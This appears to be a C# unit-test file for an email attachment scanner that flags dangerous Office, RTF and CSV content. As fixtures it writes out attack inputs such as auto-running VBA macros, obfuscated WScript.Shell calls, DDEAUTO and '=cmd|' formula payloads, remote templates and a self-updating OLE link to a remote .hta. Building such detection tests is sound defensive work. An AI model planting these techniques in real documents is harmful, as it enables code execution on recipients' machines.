using System.Buffers.Binary;
using System.Text;
using Sekisho.Inspect.Office;
using Sekisho.Inspect.Tests.Attachments;
using Sekisho.Inspect.Verdicts;

namespace Sekisho.Inspect.Tests.Office;

public sealed class OfficeTests
{
    /// <summary>The example of normal compression in MS-OVBA §3.2.2.</summary>
    [Fact]
    public void Compressed_source_is_unpacked_as_in_the_standards_example()
    {
        var packed = Convert.FromHexString("012FB000236161616263646582660070616768696A013808616B6C00306D6E6F700671027004107273747576107778797A003C");
        Assert.Equal("#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa", Encoding.ASCII.GetString(VbaCompression.Unpack(packed, 10_000)));
        for (var i = 0; i < packed.Length; i++) Assert.InRange(VbaCompression.Unpack(packed.AsSpan(0, i), 10_000).Length, 0, 56);
    }

    [Theory]
    [InlineData("Sub AutoOpen()\r\nShell \"calc\"\r\nEnd Sub", "AutoOpen", "Shell")]
    [InlineData("Sub Document_Open()\r\nSet a = CreateObject(\"WScr\" & \"ipt.Sh\" + _\r\n \"ell\")\r\nEnd Sub", "Document_Open", "WScript.Shell")]
    public void Words_that_run_and_reach_outside_are_found_also_in_pieces(string source, string auto, string suspicious)
    {
        var found = MacroWords.Find(source);
        Assert.Equal([auto], found.AutoExec);
        Assert.Equal(suspicious, found.Suspicious[0]);
    }

    [Fact]
    public void Ordinary_code_has_no_suspicious_words()
    {
        var found = MacroWords.Find("Private Sub Sum_Click()\r\nSet d = CreateObject(\"Scripting.Dictionary\")\r\nRange(\"A1\").Value = Shellfish + 1\r\nEnd Sub");
        Assert.Empty(found.AutoExec);
        Assert.Empty(found.Suspicious);
    }

    [Fact]
    public async Task A_field_code_cut_into_runs_is_found()
    {
        var xml = "<w:document xmlns:w='w'><w:fldChar w:fldCharType='begin'/><w:instrText> DD</w:instrText><w:instrText>EAUTO c:\\\\cmd.exe</w:instrText><w:fldChar w:fldCharType='end'/></w:document>";
        var verdict = await DocumentAsync(("word/document.xml", xml));
        Assert.Equal(["part 2 'a.docx': DDEAUTO c:\\\\cmd.exe"], verdict.List("office.dde"));
        Assert.Equal(Disposition.Quarantine, verdict.Disposition);
    }

    [Theory]
    [InlineData(MarkupReader.MaxTagBytes, false)]
    [InlineData(MarkupReader.MaxTagBytes + 1, true)]
    public async Task A_tag_that_would_fill_the_memory_is_not_read_and_the_message_is_held(int bytes, bool isHeld)
    {
        const string before = "<w:p w:a='", after = "'/>";
        var tag = before + new string('>', bytes - before.Length - after.Length) + after;
        var verdict = await DocumentAsync(("word/document.xml", $"<w:document xmlns:w='w'><w:fldSimple w:instr='DDE a b'/>{tag}<w:fldSimple w:instr='DDE c d'/></w:document>"));
        Assert.Equal(isHeld ? ["part 2 'a.docx': DDE a b"] : ["part 2 'a.docx': DDE a b", "part 2 'a.docx': DDE c d"], verdict.List("office.dde"));
        Assert.Equal(isHeld, verdict.Codes().Contains(ReasonCode.StructureLimit));
    }

    [Fact]
    public async Task A_template_on_the_web_is_held_and_a_link_to_click_is_not()
    {
        const string relations = "<Relationships><Relationship Type='x/{0}' TargetMode='External' Target='https://example.net/a.dotm'/></Relationships>";
        var template = await DocumentAsync(("word/document.xml", "<a/>"), ("word/_rels/settings.xml.rels", relations.Replace("{0}", "attachedTemplate", StringComparison.Ordinal)));
        Assert.Equal([ReasonCode.DocumentDangerous], template.Codes());
        var link = await DocumentAsync(("word/document.xml", "<a/>"), ("word/_rels/document.xml.rels", relations.Replace("{0}", "hyperlink", StringComparison.Ordinal)));
        Assert.Equal(Disposition.Accept, link.Disposition);
        Assert.Equal(["https://example.net/a.dotm"], link.List("links.urls"));
    }

    [Fact]
    public async Task A_program_packed_into_rtf_is_found_behind_scattered_digits()
    {
        byte[] package = [2, 0, .. "a.exe\0"u8, .. "c:\\a.exe\0"u8, 0, 0, 3, 0, 0, 0, 0, 0, 5, 0, 0, 0, .. "words"u8];
        var head = new byte[28];
        head[4] = 2;
        head[8] = 8;
        "Package\0"u8.CopyTo(head.AsSpan(12));
        byte[] size = new byte[4];
        BinaryPrimitives.WriteInt32LittleEndian(size, package.Length);
        var hex = Convert.ToHexString([.. head, .. size, .. package]);
        var rtf = "{\\rtf1{\\object\\objemb{\\*\\objdata " + string.Join("{\\x}\\y1 \r\n", hex.Chunk(7).Select(piece => new string(piece))) + "}}}";
        var verdict = await Inspecting.MessageAsync(Inspecting.WithAttachment("a.rtf", Encoding.ASCII.GetBytes(rtf)));
        Assert.Equal(["a.exe"], verdict.List("office.embedded"));
        Assert.Equal(["part 2 'a.rtf': object 'a.exe', .exe by name"], verdict.List("attachments.blocked"));
    }

    [Fact]
    public async Task A_formula_that_starts_a_program_in_a_table_is_found_and_a_bar_in_a_text_is_not()
    {
        var bad = await Inspecting.MessageAsync(Inspecting.WithAttachment("a.csv", "1,2\n=cmd|'/c calc'!A1,3\n"u8.ToArray()));
        Assert.Equal(["part 2 'a.csv': =cmd|'/c calc'!A1"], bad.List("office.dde"));
        var good = await Inspecting.MessageAsync(Inspecting.WithAttachment("a.csv", "a|b,=SUM(A1:A2),-5|'!\n"u8.ToArray()));
        Assert.Empty(good.List("office.dde"));
    }

    [Theory]
    [InlineData("attachedTemplate", @"file:///\\\\192.0.2.7\\share\\a.dotm", true)]
    [InlineData("attachedTemplate", @"\\\\host@SSL\\share\\a.dotm", true)]
    [InlineData("attachedTemplate", @"file:///\\\\files\\templates\\letter.dotm", false)]
    [InlineData("attachedTemplate", @"file:///C:\\Templates\\letter.dotm", false)]
    [InlineData("attachedTemplate", "Normal.dotm", false)]
    [InlineData("oleObject", "https://example.net/a.html!", true)]
    [InlineData("oleObject", "mhtml:http://example.net/a!x-usc:http://example.net/a", true)]
    [InlineData("oleObject", "https://files.example.com/figures.xlsx!Sheet1", false)]
    public async Task What_a_document_fetches_and_runs_is_held_and_what_it_shows_is_not(string type, string target, bool isHeld)
    {
        var verdict = await DocumentAsync(("word/document.xml", "<a/>"), ("word/_rels/settings.xml.rels", $"<Relationships><Relationship Type='x/{type}' TargetMode='External' Target='{target}'/></Relationships>"));
        Assert.Equal([$"part 2 'a.docx': {type} {target}"], verdict.List("office.external"));
        Assert.Equal(isHeld ? [$"part 2 'a.docx': {target}"] : [], verdict.List("office.remote_template"));
        Assert.Equal(isHeld, verdict.Disposition == Disposition.Quarantine);
    }

    [Theory]
    [InlineData("Private Sub abc_Layout(ByVal Index As Long)\r\nShell \"calc\"\r\nEnd Sub", "abc_Layout")]
    [InlineData("Private Sub ok_Click()\r\nEnd Sub\r\n' page_Layout (none)\r\nDim page_Layout As Long", null)]
    public void Code_of_a_control_that_runs_when_its_page_is_shown_is_found_whatever_its_name(string source, string? name) =>
        Assert.Equal(name is null ? [] : [name], MacroWords.Find(source).AutoExec);

    [Fact]
    public async Task Macro_sheets_of_a_workbook_are_told_with_the_name_that_starts_them()
    {
        const string names = "<workbook><definedNames><definedName name='_xlnm.Auto_Open'>Macro1!$A$1</definedName></definedNames></workbook>";
        var verdict = await PackageAsync("a.xlsm", ("xl/workbook.xml", names), ("xl/macrosheets/sheet1.xml", "<a/>"));
        Assert.Equal(["part 2 'a.xlsm': Auto_Open"], verdict.List("office.xlm"));
        var without = await PackageAsync("a.xlsx", ("xl/workbook.xml", names));
        Assert.Empty(without.List("office.xlm"));
    }

    [Fact]
    public async Task A_document_within_a_document_is_no_nested_archive_and_a_zip_file_in_one_is()
    {
        var inner = ZipBytes.Of(("[Content_Types].xml", "<a/>"u8.ToArray()), ("xl/workbook.xml", "<a/>"u8.ToArray()));
        var outer = ZipBytes.Of(("[Content_Types].xml", "<a/>"u8.ToArray()), ("ppt/presentation.xml", "<a/>"u8.ToArray()), ("ppt/embeddings/a.xlsx", inner), ("ppt/embeddings/a.bin", ZipBytes.Of(("a.txt", "words"u8.ToArray()))));
        var verdict = await Inspecting.MessageAsync(Inspecting.WithAttachment("a.pptx", outer));
        Assert.Equal(["part 2 'a.pptx': 'ppt/embeddings/a.bin'"], verdict.List("archives.nested"));
        Assert.Empty(verdict.List("attachments.double_extensions"));
    }

    [Theory]
    [InlineData(@"{\rtf1{\*\template http://example.net/a.dotm}words}", "http://example.net/a.dotm", true)]
    [InlineData(@"{\rtf1{\*\template \'68ttp://exa{\x}mple.net/a.dotm}words}", "http://example.net/a.dotm", true)]
    [InlineData(@"{\rtf1{\*\template \u-65432?\u116?tp://example.net/a.dotm}words}", "http://example.net/a.dotm", true)]
    [InlineData(@"{\rtf1{\*\template C:\\\\Templates\\\\Normal.dot}words}", @"C:\\Templates\\Normal.dot", false)]
    public async Task The_template_of_an_rtf_document_is_judged(string rtf, string target, bool isHeld)
    {
        var verdict = await Inspecting.MessageAsync(Inspecting.WithAttachment("a.rtf", Encoding.ASCII.GetBytes(rtf)));
        Assert.Equal([$"part 2 'a.rtf': attachedTemplate {target}"], verdict.List("office.external"));
        Assert.Equal(isHeld ? [$"part 2 'a.rtf': {target}"] : [], verdict.List("office.remote_template"));
    }

    [Theory]
    [InlineData("\\objupdate", true)]
    [InlineData("", false)]
    public async Task A_linked_object_that_loads_itself_anew_is_held(string word, bool isHeld)
    {
        byte[] link = [.. Convert.FromHexString("E0C9EA79F9BACE118C8200AA004BA90B"), 60, 0, 0, 0, .. Encoding.Unicode.GetBytes("http://example.net/a.hta\0"), .. new byte[20]];
        var hex = Convert.ToHexString([1, 5, 0, 0, 2, 0, 0, 0, 9, 0, 0, 0, .. "OLE2Link\0"u8, .. new byte[8], (byte)link.Length, 0, 0, 0, .. link]);
        var verdict = await Inspecting.MessageAsync(Inspecting.WithAttachment("a.rtf", Encoding.ASCII.GetBytes($"{{\\rtf1{{\\object{word}{{\\*\\objdata {hex}}}}}}}")));
        Assert.Equal(isHeld ? ["part 2 'a.rtf': http://example.net/a.hta"] : [], verdict.List("office.remote_template"));
    }

    private static Task<Verdict> PackageAsync(string name, params (string Name, string Xml)[] parts) =>
        Inspecting.MessageAsync(Inspecting.WithAttachment(name, ZipBytes.Of([("[Content_Types].xml", "<a/>"u8.ToArray()), .. parts.Select(part => (part.Name, Encoding.UTF8.GetBytes(part.Xml)))])));

    private static Task<Verdict> DocumentAsync(params (string Name, string Xml)[] parts) =>
        Inspecting.MessageAsync(Inspecting.WithAttachment("a.docx", ZipBytes.Of([("[Content_Types].xml", "<a/>"u8.ToArray()), .. parts.Select(part => (part.Name, Encoding.UTF8.GetBytes(part.Xml)))])));
}
